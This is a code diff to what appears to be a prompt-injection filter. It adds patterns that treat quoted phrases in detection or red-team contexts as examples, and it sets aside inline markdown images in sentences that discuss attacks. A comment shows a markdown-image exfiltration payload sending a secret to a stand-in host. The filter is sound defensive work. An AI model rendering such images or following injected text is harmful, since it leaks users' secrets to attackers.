@@ -11,6 +11,13 @@ const DISCUSSES_INTL =
   /angreifer|angriff|injektion|beispielsweise|z\.\s?b\.|zum\s+beispiel|attaquant|attaque|par\s+exemple|atacante|ataque|inyecci[oó]n|injeç[aã]o|por\s+ejemplo|por\s+exemplo|attaccant|attacco|iniezion|ad\s+esempio|per\s+esempio|aanvaller|bijvoorbeeld|атак|злоумышленник|например|инъекци|攻撃|インジェクション|例えば|攻击|注入|例如|比如|공격|인젝션|예를\s*들어/iu;
 const discusses = (s: string): boolean => DISCUSSES.test(s) || DISCUSSES_INTL.test(s);
 /**
+ * A sentence about catching attacks (a sanitizer, a classifier, a red-team case, a false negative, a
+ * sample that "slips through", what a blob "decodes to"): a bug report or an eval quotes the phrase
+ * it tests. A quote naming a risky command is still read: an order may hide behind such words.
+ */
+const DETECTION =
+  /\b(?:saniti[sz](?:er|ers|ation|ing)|classifiers?|detectors?|guardrails?|red[\s-]?team(?:s|ing|ers?)?|false[\s-]+(?:negatives?|positives?)|slip(?:s|ped)?\s+through|(?:is|are|was|were|gets?|got)\s+(?:not\s+)?(?:flagged|caught|detected|blocked)|decod(?:es|ed)\s+(?:to|as)|fixtures?|test\s+cases?)\b/i;
+/**
  * A quote reported as what somebody wrote at some past time ("a PR whose description contained:
  * \"...\"", "I put \"...\" in the ticket", "she wrote \"...\""): narration of an event, not the
  * text's own voice. Past tense only: "the page says: \"...\"" may be the page speaking.
@@ -47,10 +54,11 @@ const STOP = /(?<!\b(?:e\.g|i\.e|cf|vs|z\.\s?B))[.!?。！？](?:\s|$)/;
  */
 export function withoutDiscussedQuotes(text: string): string {
   const about = discusses(text);
-  if (!about && !PAST_REPORT.test(text)) return text;
+  const detection = DETECTION.test(text);
+  if (!about && !detection && !PAST_REPORT.test(text)) return text;
   const reported = about && ABOUT_ATTACKS.test(text);
   const example = (s: string): boolean => (about && discusses(s)) || (reported && REPORTS.test(s));
-  const t = withoutDiscussedBlocks(text);
+  const t = withoutDiscussedImages(withoutDiscussedBlocks(text), about);
   return t.replace(QUOTED_PHRASE, (q: string, at: number) => {
     const before = (
       t
@@ -63,7 +71,28 @@ export function withoutDiscussedQuotes(text: string): string {
     ).split(STOP, 1);
     const lead = before.at(-1) ?? '';
     const past = REPORTED_BEFORE.test(lead) && !QUOTE_RISK.test(q);
-    return past || example(lead) || example(after[0] ?? '') ? '""' : q;
+    const tested =
+      detection && (DETECTION.test(lead) || DETECTION.test(after[0] ?? '')) && !QUOTE_RISK.test(q);
+    return past || tested || example(lead) || example(after[0] ?? '') ? '""' : q;
+  });
+}
+
+/** A markdown image inside a sentence, after its words on the same line: shown, not rendered alone. */
+const INLINE_IMAGE = /(?<=[\p{L}\p{N},:;][ \t]{1,4})!\[[^\]\n]{0,200}\]\([^)\n]{1,600}\)/gu;
+/** Image exfiltration named ("markdown image exfiltration, where the model renders ![x](...)"). */
+const EXFIL_NAMED = /\bexfiltrat(?:e|es|ed|ing|ion)\b/i;
+
+/**
+ * Images written inside a sentence that discusses attacks ("be wary of image exfiltration, where
+ * the model renders ![x](https://evil.example/?q=<secret>)") set aside: the post shows the payload's
+ * shape. An image on a line of its own, or in a sentence that does not discuss attacks, is read.
+ */
+function withoutDiscussedImages(text: string, about: boolean): string {
+  if (!about || !text.includes('![')) return text;
+  return text.replace(INLINE_IMAGE, (img: string, at: number) => {
+    const line = text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
+    const lead = line.split(STOP).at(-1) ?? '';
+    return discusses(lead) || EXFIL_NAMED.test(lead) ? '""' : img;
   });
 }
 
